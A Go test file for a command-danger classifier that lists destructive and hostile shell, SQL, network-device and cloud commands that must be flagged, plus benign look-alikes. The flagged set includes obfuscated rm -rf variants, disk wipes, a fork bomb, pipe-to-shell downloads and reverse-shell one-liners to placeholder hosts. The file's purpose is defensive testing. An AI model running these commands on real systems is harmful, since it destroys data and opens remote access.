package command

import "testing"

func TestDangerousCommands(t *testing.T) {
	for _, text := range []string{
		"explain select 1\nrm -rf x", "select 1 || rm -rf x", "COPY t TO '/etc/x'", "SELECT 1 INTO OUTFILE '/etc/x'", "test -v 'a[$(rm -rf x)]'", "[[ 'a[$(rm -rf x)]' -eq 1 ]]",
		"GRANT ALL ON t TO bob", "CREATE USER bob PASSWORD 'x'", "COPY t FROM PROGRAM 'id'", "EXEC xp_cmdshell('id')", "SELECT load_extension('x')",
		"interface x\nrm -rf x", "banner motd #\nrm -rf x\n#", "reboot>show version", "R1#show version | rm -rf x",
		"rel", "rel in 5", "reload in 10 reason x", "RELOAD", "Reload", "wr er", "wri era", "write erase", "era start", "erase startup-config", "erase nvram:", "del flash:x",
		"delete /recursive flash:", "format flash:", "form bootflash:", "conf t\nint gi0/1\nshut", "interface Vlan1\n shutdown", "R1#reload", "R1# wr er",
		"SW1(config-if)#shutdown", "admin@fw> request restart system", "request shutdown system", "user@mx> request system zeroize", "R1(config)#no router bgp 65000",
		"no router ospf 1", "no vlan 10", "no int vlan 5", "clear ip bgp *", "debug all", "undo interface vlan 5", "<HW>reboot", "reset saved-configuration",
		"execute factoryreset", "execute shutdown", "execute formatlogdisk", "diagnose sys kill 9 100", "config system interface\nedit port1\nset status down\nend",
		"delete interfaces ge-0/0/0", "set interfaces ge-0/0/0 unit 0 disable", "deactivate protocols bgp", "load override terminal", "rollback 5", "commit replace",
		"hw-module location all reload", "install activate id 1", "install all nxos bootflash:x", "poweroff module 3", "no feature ospf", "crypto key zeroize rsa",
		"/system reboot", "/system reset-configuration", "boot system flash:x", "configure port 1/1/1 shutdown", "redundancy force-switchover", "test crash",
		"copy null: startup-config", "configure replace flash:x force", "default interface Gi0/1", "conf t ; interface e1/1 ; shutdown", "switchdisable", "cfgclear", "load sys config default", "scrub /dev/sda", "lvreduce -L 1G vg/lv", "deluser bob", "killall5 -9", "ysqlsh -c 'DROP TABLE t'", "rm -rf ~", "rm -rf .", "rm -rf $HOME",
		`rm -rf "$X"`, "rm -r -f /x", "rm --recursive --force x", "rm -Rf x", "sudo -u root rm -rf /x", "sudo -n -E rm -rf x", "sudo -i rm -rf /", "sudo sh -c 'rm -rf x'",
		"su -c 'rm -rf /'", "su - root -c 'rm -rf /x'", "X=rm; $X -rf /", "X='rm -rf /'; $X", "X='rm -rf /'; eval $X", "a=r; b=m; $a$b -rf /", "r${u}m -rf /", "rm$IFS-rf$IFS/",
		"rm${IFS}-rf${IFS}/", "{rm,-rf,/}", "$'rm' -rf /", "$'\\x72\\x6d' -rf /", "$'\\162\\155' -rf /", `r\m -rf /`, `"r"'m' -rf /`, "$(printf 'r''m') -rf /",
		"$(printf '\\162\\155') -rf /", "$(echo cm0= | base64 -d) -rf /", "eval $(echo cm0gLXJmIC8= | base64 -d)", `eval "$(echo 'rm -rf /')"`,
		"bash -c \"$(echo cm0gLXJmIC8= | base64 -d)\"", "echo 'rm -rf /' | sh", "echo 'rm -rf /' | bash -s", "echo 'rm -rf /' | sudo sh", "printf 'rm -rf %s' / | sh",
		"echo -e 'rm\\x20-rf\\x20/' | sh", "echo / fr- mr | rev | sh", "echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh", "sh <<< 'rm -rf /'", "sh <<EOF\nrm -rf /\nEOF",
		"bash << 'X'\ncd / && rm -rf *\nX", "python3 - <<EOF\nimport shutil\nshutil.rmtree('/x')\nEOF", "cat <<EOF | python3\nimport os\nos.system('rm -rf /')\nEOF",
		"python -c 'import os; os.system(\"rm -rf /\")'", "python3 -c \"__import__('os').system('rm -rf /')\"", "python3 -c \"import subprocess as s; s.run(['rm','-rf','/'])\"",
		"python3.11 -c 'import shutil as s; s.rmtree(\"x\")'", "node -e \"require('fs').rmSync('/x',{recursive:true})\"", "perl -e 'system(\"rm -rf /\")'",
		"perl -e 'exec \"rm\", \"-rf\", \"/\"'", "ruby -e 'system(\"rm -rf /\")'", "ruby -rfileutils -e 'FileUtils.rm_rf(\"/\")'", "ruby -e '`rm -rf /`'",
		"php -r 'system(\"rm -rf /\");'", "lua -e 'os.execute(\"rm -rf /\")'", "awk 'BEGIN{system(\"rm -rf /\")}'", "find . -type f -exec rm {} \\;",
		"find . -exec sh -c 'rm -rf \"$1\"' _ {} \\;", "find / -name x | xargs rm", "ls | xargs -I{} rm -rf {}", "ls | xargs sh -c 'rm -rf \"$@\"' _",
		"echo 'rm -rf /' | xargs -I{} sh -c '{}'", "ls | parallel rm -rf", "parallel rm -rf ::: a b", "parallel ::: 'rm -rf /'", "ssh host rm -rf /",
		"ssh -p 22 root@host 'rm -rf /x'", "ssh host 'sudo reboot'", "ssh host <<EOF\nrm -rf /\nEOF", "docker exec -it c rm -rf /x", "docker exec c sh -c 'rm -rf /x'",
		"docker run --rm -v /:/h alpine sh -c 'rm -rf /h'", "docker compose exec web rm -rf /x", "kubectl exec pod -- rm -rf /x",
		"kubectl exec -it pod -n ns -c c -- sh -c 'rm -rf /x'", "kubectl -n prod delete pod x", "kubectl delete ns prod", "oc delete project x", "helm uninstall x",
		"chroot /mnt rm -rf /", "nsenter -t 1 -m -u rm -rf /", "nohup rm -rf / &", "setsid rm -rf x", "watch rm -rf x", "watch -n 5 'rm -rf x'", "time rm -rf x",
		"timeout -k 5 10s rm -rf x", "stdbuf -oL rm -rf x", "ionice -c3 nice -n19 rm -rf x", "env -i rm -rf x", "env A=1 rm -rf x", "A=1 B=2 rm -rf x", "unshare -r rm -rf x",
		"systemd-run --wait rm -rf x", "flock /tmp/l rm -rf x", "flock /tmp/l -c 'rm -rf x'", "at now <<< 'rm -rf x'", "echo 'rm -rf x' | at now",
		"(crontab -l; echo '* * * * * rm -rf /') | crontab -", "f() { rm -rf \"$1\"; }; f /", "f() { $1 -rf /; }; f rm", "if true; then rm -rf x; fi",
		"while :; do rm -rf x; done", "for d in a b; do rm -rf $d; done", "for c in 'rm -rf /'; do $c; done", "case x in x) rm -rf x;; esac", "! rm -rf x",
		"true && { rm -rf x; }", "(rm -rf x)", "rm -rf x &", "a=$(rm -rf x)", "echo `rm -rf x`", "cat <(rm -rf x)", ": > /etc/passwd", "trap 'rm -rf x' EXIT",
		"alias ls='rm -rf /'", ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "command -p rm -rf x", "exec rm -rf x", "\\rm -rf x", "/usr/bin/env rm -rf x",
		"/usr/bin/env bash -c 'rm -rf x'", "sh -ec 'rm -rf x'", "bash -lc 'rm -rf x'", "bash -o pipefail -c 'rm -rf x'", "bash --norc -c 'rm -rf x'", "sh -c '$0 -rf /' rm",
		"sh -c '\"$@\"' _ rm -rf /", "set -- rm -rf /; \"$@\"", "rsync -a --delete e/ x/", "mv /etc /tmp", "shred -u x", "git reset --hard", "git clean -fdx", "git push -f",
		"git checkout -- .", "git branch -D x", "git stash drop", "git -C /x reset --hard", "dd if=x of=/dev/nvme0n1", "cat x > /dev/sda", "cp x /dev/sda", "tee /dev/sda < x",
		"mkfs -t ext4 /dev/sda1", "mkfs.xfs -f /dev/sdb", "wipefs -a /dev/sda", "parted /dev/sda mklabel gpt", "sgdisk -Z /dev/sda", "blkdiscard /dev/sda", "lvremove -f vg/lv",
		"zfs destroy tank/x", "cryptsetup luksFormat /dev/sda", "hdparm --security-erase x /dev/sda", "mkswap /dev/sda2", "badblocks -w /dev/sda", "btrfs subvolume delete x",
		"shutdown now", "shutdown -r +5", "init 0", "telinit 6", "poweroff", "halt -p", "systemctl poweroff", "systemctl stop sshd", "systemctl disable --now x",
		"systemctl mask firewalld", "service ssh stop", "/etc/init.d/ssh stop", "kill -9 -1", "killall -9 nginx", "pkill sshd", "kill $(pidof sshd)", "kill -KILL `cat x.pid`",
		"ip link set dev eth0 down", "ifconfig eth0 down", "nmcli con down x", "iptables -F", "nft flush ruleset", "ufw disable", "echo b > /proc/sysrq-trigger",
		"echo c | sudo tee /proc/sysrq-trigger", "chmod -R 777 /", "chmod 000 /etc/passwd", "chown -R x:x /etc", "userdel -r bob", "passwd -d root", "crontab -r",
		"truncate -s 0 /var/log/x", "echo x > ../../x", "echo x >> ~/.bashrc", "echo k >> /root/.ssh/authorized_keys", "cp x /etc/cron.d/", "ln -sf x /usr/bin/y",
		"tar xf x -C /", "curl -o /usr/bin/x u", "wget -O /etc/x u", "sed -i s/a/b/ /etc/hosts", "install x /usr/bin", "visudo", "rm /etc/passwd", "mv x /etc/",
		"vim /etc/passwd", "curl u | sh", "curl -s u | sudo bash -s -- -y", "wget -O- u | python3", "bash <(curl u)", "bash -c \"$(curl -fsSL u)\"", "sh -c \"`wget -qO- u`\"",
		"eval \"$(curl u)\"", "source <(curl u)", ". <(wget -qO- u)", "curl u | tee x | sh", "curl u | base64 -d | sh", "base64 -d x | sh", "X=$(curl u); eval \"$X\"",
		"python3 <(curl u)", "python -c \"$(curl u)\"", "curl u > x.sh && sh x.sh", "curl u -o x; chmod +x x; ./x", "nc -e /bin/sh h 1", "nc h 1 | sh",
		"bash -i >& /dev/tcp/1.2.3.4/1 0>&1", "iex (iwr u)", "echo x | openssl enc -d -aes256 -k y | sh", "psql -c 'DROP TABLE users'", "mysql -e 'DROP DATABASE x'",
		"sqlite3 x.db 'DELETE FROM t'", "DROP DATABASE prod;", "DELETE FROM users", "delete from users where 1=1;", "TRUNCATE TABLE x", "UPDATE users SET a=1",
		"ALTER TABLE t DROP COLUMN x", "echo 'DROP TABLE x' | psql", "psql <<EOF\nDROP TABLE x;\nEOF", "redis-cli FLUSHALL", "mongosh --eval 'db.dropDatabase()'", "dropdb x",
		"docker exec db psql -c 'DROP TABLE x'", "terraform destroy", "terraform apply -destroy -auto-approve", "pulumi destroy --yes",
		"aws ec2 terminate-instances --instance-ids i-1", "aws s3 rb s3://x --force", "aws rds delete-db-instance --db-instance-identifier x",
		"gcloud compute instances delete x -q", "gcloud projects delete x", "az vm delete -g x -n y", "doctl compute droplet delete x", "heroku apps:destroy x",
		"vagrant destroy -f", "docker system prune -af", "docker volume rm x", "docker rm -f $(docker ps -aq)", "docker stop x", "podman rmi x", "virsh undefine x",
		"qm destroy 100", "npm unpublish x", "gh repo delete x", "vault secrets disable x", "etcdctl del --prefix /", "consul kv delete -recurse x", "ipmitool power off",
	} {
		if got := Analyze(text); got.Class != Dangerous {
			t.Errorf("Analyze(%q): got %s %v, want dangerous", text, got.Class, got.Spans)
		}
	}
}

// What only looks dangerous may be unknown, but is not dangerous.
func TestLookAlikes(t *testing.T) {
	for _, text := range []string{
		"show reload", "show run | inc shutdown", "display reboot-info", "sh ver", "ping 1.1.1.1", "description reload the box", "R1#show version", "R1>show ip int brief",
		"conf t\ninterface Gi0/1\n description shutdown candidate\n no shutdown\nend", "banner motd #\nreload tonight\n#", "write memory", "wr mem", "copy run start",
		"reload cancel", "no debug all", "undebug all", "ntp server 1.1.1.1", "username reload privilege 15", "hostname reload", "snmp-server location erase",
		"request support information", "show erase", "commit confirmed 5", "terminal length 0", "logging host 1.1.1.1", "ip route 10.0.0.0 255.0.0.0 10.1.1.1", "show | compare",
		"monitor traffic interface ge-0/0/0", "execute ping 1.1.1.1", "get system status", "diagnose hardware deviceinfo nic", "echo rm -rf /", "echo 'rm -rf /' > notes.md",
		"grep -r 'rm -rf' .", "man rm", "which reboot", "type shutdown", "git commit -m 'rm -rf /'", "git log --grep='drop table'", "cat shutdown.log", "ls /sbin/reboot", "show cfgdisable", "load sys config file x", "man scrub", "lvs", "getfacl x", "lsattr -d x", "rlwrap ls", "ysqlsh -c 'SELECT 1'",
		"systemctl status reboot.target", "journalctl -u shutdown", "ps aux | grep reboot", "kill -l", "kill -0 123", "find . -name '*.rm'", "find . -name delete -print",
		"printf 'rm -rf /\\n'", "cat <<EOF\nrm -rf /\nEOF", "cat <<EOF > x.txt\nrm -rf /\nEOF", "# rm -rf /", "ls # rm -rf /", "echo hi # reboot", "rm x.txt", "rm -f x.txt",
		"rm -i x", "mkdir -p a/b", "touch x", "cp a b", "mv a b", "tar czf x.tgz a", "dd if=/dev/zero of=./x bs=1M count=1", "dd if=/dev/sda of=/dev/null", "lsblk",
		"fdisk -l /dev/sda", "parted -l", "mount", "df -h /dev/sda1", "blkid", "smartctl -a /dev/sda", "hdparm -I /dev/sda", "cat /dev/null > x", "echo x > /dev/null",
		"ls 2>/dev/null >&2", "git push", "git push origin main", "git checkout -b x", "git checkout main", "git reset --soft HEAD~1", "git reset HEAD x",
		"git restore --staged x", "git clean -n", "git stash", "git stash list", "git branch -d x", "git rebase main", "git config user.name x", "docker ps -a",
		"docker logs rm", "docker run --rm alpine ls", "docker run --rm -it alpine sh", "docker build -t x .", "docker compose up -d", "docker exec c ls", "kubectl get pods",
		"kubectl describe pod delete-me", "kubectl apply -f x.yaml", "kubectl delete pod x --dry-run=client", "kubectl exec pod -- ls", "kubectl rollout status x", "helm list",
		"helm template x", "helm upgrade x y", "terraform plan -destroy", "terraform fmt", "aws s3 ls", "aws ec2 describe-instances", "aws s3 cp x s3://y",
		"gcloud compute instances list", "az vm list", "gh pr list", "gh issue view 1", "npm run clean", "npm test", "npm install", "make clean", "make", "go test ./...",
		"pytest -k delete", "cargo build", "pip install x", "curl https://x", "curl -X POST https://x -d a=b", "curl -sSL https://x | jq .", "curl https://x | tar xz",
		"wget https://x", "curl https://x | head", "ssh host uptime", "ssh host", "scp a h:b", "rsync -a a/ b/", "rsync -an --delete a/ b/", "systemctl list-units",
		"crontab -l", "iptables -L -n", "nft list ruleset", "ip a", "ip link show", "ip route get 1.1.1.1", "sudo ls", "sudo systemctl status x", "python3 script.py",
		"python3 -c 'print(1)'", "python3 -m http.server", "node -e 'console.log(1)'", "node x.js", "bash x.sh", "bash -n x.sh", "sh -c 'ls'", "perl -ne 'print' x",
		"awk '{print $1}' x", "sed -n 5p x", "sed 's/rm/x/' y", "xargs ls < x", "find . -exec ls {} \\;", "find . | xargs grep x", "SELECT * FROM t", "select 'drop table x'",
		"EXPLAIN DELETE FROM t", "INSERT INTO t VALUES (1)", "DELETE FROM t WHERE id = 5", "UPDATE t SET a=1 WHERE id=2", "psql -c 'SELECT 1'", "sqlite3 x.db 'SELECT * FROM t'",
		"mysql -e 'SHOW TABLES'", "redis-cli GET x", "psql -l", "echo 'DROP TABLE x'", "grep 'DROP TABLE' x.sql", "./deploy.sh --no-reload", "code shutdown.md",
		"less reload.txt", "tail -f /var/log/reboot.log", "test -f /sbin/reboot && echo yes", "[ -d x ] || mkdir x", "if [ -f x ]; then cat x; fi",
		"for f in *.txt; do wc -l $f; done", "x=5; echo $x", "echo $((1+2))", "date; uptime", "tldr rm", "help kill", "apropos shutdown", "alias ll='ls -l'",
		"history | grep rm", "export FOO=bar", "virsh list --all", "vagrant status", "zfs list", "zpool status", "ansible all -m ping", "tmux ls", "screen -ls", "vim x.txt",
		"nano y", "Delete the old backup from last year", "Please delete the file", "The device will reload at noon", "reload the page", "Shutdown is planned for Sunday",
		"How do I erase a disk?", "Kill the meeting", "format the document as PDF", "drop me a note", "stop the presses",
	} {
		if got := Analyze(text); got.Class == Dangerous {
			t.Errorf("Analyze(%q): got dangerous %v", text, got.Spans)
		}
	}
}

// No wrapper makes a dangerous command less dangerous.
func TestWrappers(t *testing.T) {
	for _, command := range []string{"rm -rf x", "reboot", "dd if=x of=/dev/sda", "mkfs.ext4 /dev/sda1", "systemctl stop x", "kill 1"} {
		for _, wrapper := range []string{
			"sudo ", "sudo -u bob -E ", "doas ", "env A=1 ", "env -i ", "nice -n 5 ", "ionice -c 3 ", "timeout -k 1 5 ", "nohup ", "setsid ", "stdbuf -oL ", "time ", "command ", "exec ", "busybox ",
			"ssh -p 22 h ", "docker exec -it c ", "docker run --rm -v /:/h alpine ", "podman exec c ", "kubectl exec p -- ", "kubectl -n x exec -it p -c c -- ", "chroot /mnt ", "nsenter -t 1 -m ", "unshare -r ",
			"systemd-run --wait ", "flock l ", "strace -f ", "watch -n 1 ", "parallel ", "xargs -n 1 ", "find . -exec ", "fd -x ", "ip netns exec n ", "lxc exec c -- ", "su-exec u ", "proxychains4 -q ", "taskset -c 1 ", "setuidgid bob ", "cgexec -g cpu:x ", "rlwrap ", "tini -- ", "dumb-init ", "! ", "A=1 ", "true && ", "false || ", "ls | ",
		} {
			if got := Analyze(wrapper + command); got.Class != Dangerous {
				t.Errorf("Analyze(%q): got %s %v, want dangerous", wrapper+command, got.Class, got.Spans)
			}
		}
	}
}
